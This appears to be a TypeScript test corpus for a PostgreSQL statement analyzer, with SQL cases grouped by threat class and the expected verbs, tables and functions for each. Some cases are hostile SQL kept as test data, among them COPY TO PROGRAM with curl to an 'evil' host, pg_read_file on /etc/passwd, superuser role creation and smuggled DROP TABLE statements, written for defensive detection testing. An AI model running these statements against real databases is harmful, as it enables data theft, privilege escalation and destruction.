/**
 * The SQL corpus: statements with the facts the real PostgreSQL grammar must
 * yield. Grouped by threats.md class; every expectation was written from the
 * grammar's point of view, not copied from the implementation's output.
 */
import type { SqlAnalysis } from '../../src/protocols/postgres/sql.js';

export interface SqlCase {
  sql: string;
  verb: string;
  verbs: string[];
  tables: string[];
  functions: string[];
  /** Further fields that must match exactly. */
  also?: Partial<SqlAnalysis>;
}

/** Ordinary traffic: reads, writes, DDL, privileges, session and maintenance. */
export const ordinary: SqlCase[] = [
  { sql: 'SELECT id, name FROM users WHERE id = 1', verb: 'select', verbs: ['select'], tables: ['users'], functions: [] },
  {
    sql: 'SELECT u.name, o.total FROM public.users u JOIN sales.orders o ON o.user_id = u.id LEFT JOIN audit a USING (id)',
    verb: 'select',
    verbs: ['select'],
    tables: ['audit', 'orders', 'public.users', 'sales.orders', 'users'],
    functions: [],
  },
  {
    sql: "SELECT count(*) FROM orders WHERE created_at > now() - interval '1 day'",
    verb: 'select',
    verbs: ['select'],
    tables: ['orders'],
    functions: ['count', 'now'],
  },
  {
    sql: 'SELECT * FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > (SELECT avg(total) FROM orders))',
    verb: 'select',
    verbs: ['select'],
    tables: ['orders', 'users'],
    functions: ['avg'],
  },
  { sql: 'VALUES (1, $$a$$)', verb: 'select', verbs: ['select'], tables: [], functions: [] },
  {
    sql: "INSERT INTO users (name) VALUES ('a'), ('b') RETURNING id",
    verb: 'insert',
    verbs: ['insert'],
    tables: ['users'],
    functions: [],
  },
  {
    sql: 'INSERT INTO archive SELECT * FROM users WHERE deleted',
    verb: 'insert',
    verbs: ['insert', 'select'],
    tables: ['archive', 'users'],
    functions: [],
  },
  {
    sql: "INSERT INTO counters (k, v) VALUES ('x', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + 1",
    verb: 'update',
    verbs: ['insert', 'update'],
    tables: ['counters'],
    functions: [],
  },
  { sql: 'INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', verb: 'insert', verbs: ['insert'], tables: ['t'], functions: [] },
  {
    sql: 'UPDATE accounts SET balance = balance - 10 FROM transfers t WHERE t.id = accounts.id',
    verb: 'update',
    verbs: ['update'],
    tables: ['accounts', 'transfers'],
    functions: [],
  },
  {
    sql: 'DELETE FROM sessions USING users WHERE sessions.user_id = users.id AND users.banned',
    verb: 'delete',
    verbs: ['delete'],
    tables: ['sessions', 'users'],
    functions: [],
  },
  {
    sql: 'MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)',
    verb: 'merge',
    verbs: ['insert', 'merge', 'update'],
    tables: ['deliveries', 'stock'],
    functions: [],
  },
  {
    sql: 'CREATE TABLE notes (id serial PRIMARY KEY, body text DEFAULT gen_random_uuid()::text, owner int REFERENCES users(id))',
    verb: 'create',
    verbs: ['create'],
    tables: ['notes', 'users'],
    functions: ['gen_random_uuid'],
  },
  { sql: 'ALTER TABLE public.notes ADD COLUMN tags text[]', verb: 'alter', verbs: ['alter'], tables: ['notes', 'public.notes'], functions: [] },
  {
    sql: 'DROP TABLE IF EXISTS notes, public.logs CASCADE',
    verb: 'drop',
    verbs: ['drop'],
    tables: ['logs', 'notes', 'public.logs'],
    functions: [],
  },
  { sql: 'TRUNCATE TABLE logs, ONLY events RESTART IDENTITY', verb: 'truncate', verbs: ['truncate'], tables: ['events', 'logs'], functions: [] },
  {
    sql: 'CREATE INDEX CONCURRENTLY idx_users_email ON users (lower(email))',
    verb: 'create',
    verbs: ['create'],
    tables: ['users'],
    functions: ['lower'],
  },
  {
    sql: 'CREATE VIEW active_users AS SELECT * FROM users WHERE NOT banned',
    verb: 'create',
    verbs: ['create', 'select'],
    tables: ['active_users', 'users'],
    functions: [],
  },
  {
    sql: 'GRANT SELECT, INSERT ON TABLE public.orders, invoices TO analyst',
    verb: 'grant',
    verbs: ['grant'],
    tables: ['invoices', 'orders', 'public.orders'],
    functions: [],
  },
  { sql: 'REVOKE ALL ON users FROM PUBLIC', verb: 'revoke', verbs: ['revoke'], tables: ['users'], functions: [] },
  { sql: 'GRANT pg_read_server_files TO agent', verb: 'grant', verbs: ['grant'], tables: [], functions: [] },
  { sql: 'LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE', verb: 'lock', verbs: ['lock'], tables: ['accounts'], functions: [] },
  {
    sql: 'BEGIN; UPDATE a SET x = 1; COMMIT',
    verb: 'update',
    verbs: ['begin', 'commit', 'update'],
    tables: ['a'],
    functions: [],
    also: { statementCount: 3 },
  },
  { sql: 'SET search_path TO app, public', verb: 'set', verbs: ['set'], tables: [], functions: [] },
  { sql: 'SET ROLE admin', verb: 'set', verbs: ['set'], tables: [], functions: [] },
  { sql: 'RESET ROLE', verb: 'reset', verbs: ['reset'], tables: [], functions: [] },
  { sql: 'SHOW server_version', verb: 'show', verbs: ['show'], tables: [], functions: [] },
  { sql: 'VACUUM (VERBOSE, ANALYZE) big_table', verb: 'vacuum', verbs: ['vacuum'], tables: ['big_table'], functions: [] },
  { sql: 'ANALYZE users', verb: 'analyze', verbs: ['analyze'], tables: ['users'], functions: [] },
  { sql: 'CREATE ROLE intruder SUPERUSER LOGIN', verb: 'create', verbs: ['create'], tables: [], functions: [] },
  { sql: 'ALTER ROLE agent SUPERUSER', verb: 'alter', verbs: ['alter'], tables: [], functions: [] },
  { sql: "LISTEN jobs; NOTIFY jobs, 'x'", verb: 'notify', verbs: ['listen', 'notify'], tables: [], functions: [] },
  {
    sql: 'DECLARE c CURSOR FOR SELECT * FROM big; FETCH 10 FROM c; CLOSE c',
    verb: 'select',
    verbs: ['close', 'declare', 'fetch', 'select'],
    tables: ['big'],
    functions: [],
  },
  { sql: "COMMENT ON COLUMN app.users.email IS 'pii'", verb: 'comment', verbs: ['comment'], tables: ['app.users', 'users'], functions: [] },
  { sql: 'REFRESH MATERIALIZED VIEW CONCURRENTLY sales_summary', verb: 'refresh', verbs: ['refresh'], tables: ['sales_summary'], functions: [] },
  { sql: 'CREATE EXTENSION IF NOT EXISTS dblink', verb: 'create', verbs: ['create'], tables: [], functions: [] },
  { sql: "LOAD 'auto_explain'", verb: 'load', verbs: ['load'], tables: [], functions: [] },
  { sql: "ALTER SYSTEM SET archive_command = 'curl -T %p https://evil'", verb: 'alter', verbs: ['alter'], tables: [], functions: [] },
  { sql: 'CHECKPOINT', verb: 'checkpoint', verbs: ['checkpoint'], tables: [], functions: [] },
  { sql: 'DISCARD ALL', verb: 'discard', verbs: ['discard'], tables: [], functions: [] },
];

/** Class 1: several statements in one message — every statement counts. */
export const multiStatement: SqlCase[] = [
  {
    sql: 'SELECT 1; DROP TABLE users',
    verb: 'drop',
    verbs: ['drop', 'select'],
    tables: ['users'],
    functions: [],
    also: { statementCount: 2 },
  },
  { sql: 'select * from t;delete from t', verb: 'delete', verbs: ['delete', 'select'], tables: ['t'], functions: [] },
  { sql: 'SHOW work_mem; TRUNCATE audit_log; SELECT 1', verb: 'truncate', verbs: ['select', 'show', 'truncate'], tables: ['audit_log'], functions: [] },
  { sql: 'SELECT 1;;; ;DROP TABLE x;', verb: 'drop', verbs: ['drop', 'select'], tables: ['x'], functions: [], also: { statementCount: 2 } },
  {
    sql: 'INSERT INTO a VALUES (1); GRANT ALL ON a TO PUBLIC; DROP TABLE b',
    verb: 'grant',
    verbs: ['drop', 'grant', 'insert'],
    tables: ['a', 'b'],
    functions: [],
  },
];

/** Class 2: writes hidden inside reads. */
export const hiddenWrites: SqlCase[] = [
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', verb: 'delete', verbs: ['delete', 'select'], tables: ['t'], functions: [] },
  {
    sql: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id), i AS (INSERT INTO log SELECT id FROM u RETURNING 1) SELECT count(*) FROM i',
    verb: 'update',
    verbs: ['insert', 'select', 'update'],
    tables: ['accounts', 'log'],
    functions: ['count'],
  },
  { sql: 'EXPLAIN ANALYZE DELETE FROM users', verb: 'delete', verbs: ['delete', 'explain'], tables: ['users'], functions: [] },
  { sql: 'EXPLAIN (BUFFERS, ANALYZE) UPDATE t SET a = 1', verb: 'update', verbs: ['explain', 'update'], tables: ['t'], functions: [] },
  { sql: 'EXPLAIN (ANALYZE 1) DELETE FROM t', verb: 'delete', verbs: ['delete', 'explain'], tables: ['t'], functions: [] },
  { sql: 'EXPLAIN (ANALYZE off) DELETE FROM users', verb: 'explain', verbs: ['explain'], tables: ['users'], functions: [] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM users', verb: 'explain', verbs: ['explain'], tables: ['users'], functions: [] },
  { sql: "EXPLAIN (ANALYZE 'on', FORMAT JSON) DELETE FROM users", verb: 'delete', verbs: ['delete', 'explain'], tables: ['users'], functions: [] },
  { sql: 'EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM users', verb: 'delete', verbs: ['delete', 'explain'], tables: ['users'], functions: [] },
  // Numbers never change facts (engines may normalise them): ANALYZE 0 counts as on.
  { sql: 'EXPLAIN (ANALYZE 0) DELETE FROM t', verb: 'delete', verbs: ['delete', 'explain'], tables: ['t'], functions: [] },
  { sql: 'EXPLAIN DELETE FROM users', verb: 'explain', verbs: ['explain'], tables: ['users'], functions: [] },
  {
    sql: 'EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    verb: 'delete',
    verbs: ['delete', 'explain', 'select'],
    tables: ['t'],
    functions: [],
  },
  { sql: 'SELECT * INTO stolen FROM users', verb: 'create', verbs: ['create', 'select'], tables: ['stolen', 'users'], functions: [] },
  { sql: 'CREATE TABLE copy AS SELECT * FROM users', verb: 'create', verbs: ['create', 'select'], tables: ['copy', 'users'], functions: [] },
  { sql: 'COPY (DELETE FROM t RETURNING id) TO STDOUT', verb: 'copy', verbs: ['copy', 'delete'], tables: ['t'], functions: [] },
  {
    sql: "COPY (SELECT * FROM users) TO '/tmp/u.csv'",
    verb: 'copy',
    verbs: ['copy', 'select'],
    tables: ['users'],
    functions: [],
    also: { copyProgram: false },
  },
  {
    sql: "COPY users TO PROGRAM 'curl -d @- https://evil'",
    verb: 'copy',
    verbs: ['copy'],
    tables: ['users'],
    functions: [],
    also: { copyProgram: true },
  },
  {
    sql: "SELECT 1; COPY t FROM PROGRAM 'id'; GRANT ALL ON t TO PUBLIC",
    verb: 'copy',
    verbs: ['copy', 'grant', 'select'],
    tables: ['t'],
    functions: [],
    also: { copyProgram: true },
  },
  {
    sql: 'CREATE RULE log_ins AS ON INSERT TO orders DO ALSO (DELETE FROM audit; INSERT INTO shadow VALUES (NEW.*))',
    verb: 'create',
    verbs: ['create', 'delete', 'insert'],
    tables: ['audit', 'orders', 'shadow'],
    functions: [],
  },
  { sql: 'DO $$ BEGIN DELETE FROM users; END $$', verb: 'do', verbs: ['delete', 'do'], tables: ['users'], functions: [] },
  {
    sql: "DO $$BEGIN EXECUTE 'DROP TABLE ' || 'users'; END$$",
    verb: 'do',
    verbs: ['do', 'drop'],
    tables: ['users'],
    functions: [],
  },
  {
    sql: "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
    verb: 'do',
    verbs: ['do'],
    tables: [],
    functions: ['format'],
  },
  {
    sql: "DO $$ DECLARE n int; BEGIN PERFORM pg_read_file('/etc/passwd'); n := lo_export(42, '/tmp/x'); IF (SELECT count(*) FROM w) > 0 THEN UPDATE z SET a = 1; END IF; COMMIT; END $$",
    verb: 'do',
    verbs: ['commit', 'do', 'select', 'update'],
    tables: ['w', 'z'],
    functions: ['count', 'lo_export', 'pg_read_file'],
  },
  {
    sql: "DO $d$ DECLARE r record; BEGIN FOR r IN EXECUTE $q$SELECT * FROM secrets$q$ LOOP RAISE NOTICE '%', r; END LOOP; END $d$",
    verb: 'do',
    verbs: ['do', 'select'],
    tables: ['secrets'],
    functions: [],
  },
  { sql: "DO LANGUAGE plpython3u $$ import os; os.system('id') $$", verb: 'do', verbs: ['do'], tables: [], functions: [] },
  // Statement positions are byte offsets: multi-byte text before a DO must not shift its body.
  {
    sql: "SELECT 'héllo wörld'; DO $$ BEGIN DELETE FROM t; END $$; SELECT '日本'",
    verb: 'do',
    verbs: ['delete', 'do', 'select'],
    tables: ['t'],
    functions: [],
  },
  {
    sql: "SELECT 'ü'; CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE ünïcode; END $$",
    verb: 'create',
    verbs: ['create', 'drop', 'select'],
    tables: ['ünïcode'],
    functions: [],
  },
  { sql: 'DO $$ this is not plpgsql $$', verb: 'do', verbs: ['do'], tables: [], functions: [] },
  {
    sql: 'CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM t $$',
    verb: 'create',
    verbs: ['create', 'delete'],
    tables: ['t'],
    functions: [],
  },
  {
    sql: 'CREATE FUNCTION g() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT pg_backend_pid(); END',
    verb: 'create',
    verbs: ['create', 'delete', 'select'],
    tables: ['t'],
    functions: ['pg_backend_pid'],
  },
  {
    sql: 'CREATE PROCEDURE purge() LANGUAGE plpgsql AS $$ BEGIN TRUNCATE audit; COMMIT; END $$',
    verb: 'create',
    verbs: ['commit', 'create', 'truncate'],
    tables: ['audit'],
    functions: [],
  },
  {
    sql: 'CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION audit.log_delete()',
    verb: 'create',
    verbs: ['create'],
    tables: ['users'],
    functions: ['audit.log_delete', 'log_delete'],
  },
  {
    sql: "SELECT dblink_exec('dbname=app', 'DROP TABLE users')",
    verb: 'drop',
    verbs: ['drop', 'select'],
    tables: ['users'],
    functions: ['dblink_exec'],
  },
  { sql: 'INSERT INTO t VALUES ((SELECT max(id) FROM u))', verb: 'insert', verbs: ['insert', 'select'], tables: ['t', 'u'], functions: ['max'] },
];

/** Class 3: named statements — PREPARE stores, EXECUTE runs. */
export const namedStatements: SqlCase[] = [
  {
    sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1',
    verb: 'prepare',
    verbs: ['delete', 'prepare'],
    tables: ['t'],
    functions: [],
  },
  { sql: 'EXECUTE p(1)', verb: 'execute', verbs: ['execute'], tables: [], functions: [], also: { executes: ['p'] } },
  {
    sql: 'PREPARE q AS SELECT 1; EXECUTE q; DEALLOCATE q',
    verb: 'execute',
    verbs: ['deallocate', 'execute', 'prepare', 'select'],
    tables: [],
    functions: [],
    also: { executes: ['q'], deallocates: ['q'] },
  },
  { sql: 'DEALLOCATE ALL', verb: 'deallocate', verbs: ['deallocate'], tables: [], functions: [], also: { deallocates: 'all' } },
  {
    sql: 'CREATE TABLE x AS EXECUTE p',
    verb: 'create',
    verbs: ['create', 'execute'],
    tables: ['x'],
    functions: [],
    also: { executes: ['p'] },
  },
  { sql: 'EXPLAIN EXECUTE p', verb: 'explain', verbs: ['explain'], tables: [], functions: [], also: { executes: [] } },
  {
    sql: 'EXPLAIN ANALYZE EXECUTE p(pg_sleep(1))',
    verb: 'explain',
    verbs: ['execute', 'explain'],
    tables: [],
    functions: ['pg_sleep'],
    also: { executes: ['p'] },
  },
];

/** Class 4: comments, quoting and whitespace — only the real grammar gets these right. */
export const lexicalTricks: SqlCase[] = [
  { sql: 'DELETE/*x*/FROM t', verb: 'delete', verbs: ['delete'], tables: ['t'], functions: [] },
  { sql: 'SELECT /* /* nested */ ; DROP TABLE x; */ 1', verb: 'select', verbs: ['select'], tables: [], functions: [] },
  { sql: 'SELECT $tag$; DROP TABLE x; $tag$', verb: 'select', verbs: ['select'], tables: [], functions: [] },
  { sql: 'SELECT $$a$$; DROP TABLE x', verb: 'drop', verbs: ['drop', 'select'], tables: ['x'], functions: [] },
  { sql: "SELECT E'\\'; DROP TABLE x; --'", verb: 'select', verbs: ['select'], tables: [], functions: [] },
  // standard_conforming_strings = on: a backslash does not escape, the string ends early.
  { sql: "SELECT '\\'; DROP TABLE x; --'", verb: 'drop', verbs: ['drop', 'select'], tables: ['x'], functions: [] },
  { sql: 'SELECT * FROM U&"\\0075sers"', verb: 'select', verbs: ['select'], tables: ['users'], functions: [] },
  { sql: "SELECT * FROM U&\"!0075sers\" UESCAPE '!'", verb: 'select', verbs: ['select'], tables: ['users'], functions: [] },
  { sql: 'SELECT 1 --x\r; DROP TABLE t', verb: 'drop', verbs: ['drop', 'select'], tables: ['t'], functions: [] },
  { sql: 'SELECT 1 -- ; DROP TABLE t', verb: 'select', verbs: ['select'], tables: [], functions: [] },
  { sql: 'dElEtE\tfRoM\n"Users"', verb: 'delete', verbs: ['delete'], tables: ['Users'], functions: [] },
  { sql: 'SELECT * FROM "public"."users"', verb: 'select', verbs: ['select'], tables: ['public.users', 'users'], functions: [] },
  { sql: 'SELECT * FROM "Sales"."Q1 Orders"', verb: 'select', verbs: ['select'], tables: ['Q1 Orders', 'Sales.Q1 Orders'], functions: [] },
];

/** Class 7: side effects through functions, in every position and spelling. */
export const functionCalls: SqlCase[] = [
  { sql: "SELECT pg_read_file('/etc/passwd')", verb: 'select', verbs: ['select'], tables: [], functions: ['pg_read_file'] },
  {
    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: ['pg_catalog.pg_read_file', 'pg_read_file'],
  },
  {
    sql: 'SELECT "pg_catalog"."PG_READ_FILE"($$/x$$)',
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: ['pg_catalog.pg_read_file', 'pg_read_file'],
  },
  { sql: "SELECT * FROM pg_ls_dir('/')", verb: 'select', verbs: ['select'], tables: [], functions: ['pg_ls_dir'] },
  {
    sql: "SELECT * FROM ROWS FROM (pg_ls_dir('/'), pg_read_binary_file('/etc/passwd')) AS x(a, b)",
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: ['pg_ls_dir', 'pg_read_binary_file'],
  },
  {
    sql: "SELECT lo_export(lo_import('/etc/passwd'), '/tmp/x')",
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: ['lo_export', 'lo_import'],
  },
  { sql: "SELECT set_config('role', 'postgres', false)", verb: 'select', verbs: ['select'], tables: [], functions: ['set_config'] },
  {
    sql: "SELECT 1 FROM users WHERE pg_catalog.set_config('session_authorization', 'postgres', true) IS NOT NULL",
    verb: 'select',
    verbs: ['select'],
    tables: ['users'],
    functions: ['pg_catalog.set_config', 'set_config'],
  },
  {
    sql: "SELECT dblink_exec('host=evil', 'SELECT 1')",
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: ['dblink_exec'],
  },
  { sql: 'CALL admin.rotate_keys(true)', verb: 'call', verbs: ['call'], tables: [], functions: ['admin.rotate_keys', 'rotate_keys'] },
  {
    sql: 'SELECT x FROM t WHERE pg_sleep(10) IS NOT NULL ORDER BY md5(x)',
    verb: 'select',
    verbs: ['select'],
    tables: ['t'],
    functions: ['md5', 'pg_sleep'],
  },
  {
    sql: "CREATE TABLE t2 (a text DEFAULT pg_read_file('/etc/hostname'))",
    verb: 'create',
    verbs: ['create'],
    tables: ['t2'],
    functions: ['pg_read_file'],
  },
  {
    sql: 'UPDATE t SET a = pg_terminate_backend(pid) FROM pg_stat_activity',
    verb: 'update',
    verbs: ['update'],
    tables: ['pg_stat_activity', 't'],
    functions: ['pg_terminate_backend'],
  },
  { sql: "VALUES (pg_ls_dir('.'))", verb: 'select', verbs: ['select'], tables: [], functions: ['pg_ls_dir'] },
];

/** CTE names are not tables — but only where the CTE is actually in scope. */
export const cteScoping: SqlCase[] = [
  {
    sql: 'SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) a, users',
    verb: 'select',
    verbs: ['select'],
    tables: ['users'],
    functions: [],
  },
  { sql: 'WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a', verb: 'select', verbs: ['select'], tables: ['b'], functions: [] },
  {
    sql: 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r',
    verb: 'select',
    verbs: ['select'],
    tables: [],
    functions: [],
  },
  { sql: 'WITH t AS (SELECT 1) DELETE FROM t', verb: 'delete', verbs: ['delete', 'select'], tables: ['t'], functions: [] },
  { sql: 'WITH users AS (SELECT 1) SELECT * FROM public.users', verb: 'select', verbs: ['select'], tables: ['public.users', 'users'], functions: [] },
];

export const corpus: Array<[string, SqlCase[]]> = [
  ['ordinary traffic', ordinary],
  ['class 1: several statements', multiStatement],
  ['class 2: writes hidden inside reads', hiddenWrites],
  ['class 3: named statements', namedStatements],
  ['class 4: comments, quoting, whitespace', lexicalTricks],
  ['class 7: functions', functionCalls],
  ['CTE scoping', cteScoping],
];

/** Input the real grammar rejects (or that cannot be handed to it faithfully): never inspected. */
export const unparseable: Array<{ sql: string; error: string | RegExp }> = [
  { sql: 'SELECT 1 /* unterminated', error: /unterminated \/\* comment/ },
  { sql: "SELECT 'abc", error: /unterminated quoted string/ },
  { sql: 'SELECT $a$ never closed', error: /unterminated dollar-quoted string/ },
  { sql: 'DELETE FROM', error: 'syntax error at end of input' },
  { sql: 'SELEC 1', error: 'syntax error at or near "SELEC"' },
  { sql: 'SELECT 1; DROP', error: 'syntax error at end of input' },
  { sql: 'SELECT 1\0; DROP TABLE users', error: 'statement contains a NUL character' },
  { sql: 'SELECT 1 \uD800; DROP TABLE users', error: 'statement is not valid Unicode (lone surrogate)' },
  { sql: '', error: 'empty statement' },
  { sql: ' \n\t ', error: 'empty statement (only whitespace, comments or semicolons)' },
  { sql: ';', error: 'empty statement (only whitespace, comments or semicolons)' },
  { sql: '-- just a comment', error: 'empty statement (only whitespace, comments or semicolons)' },
];
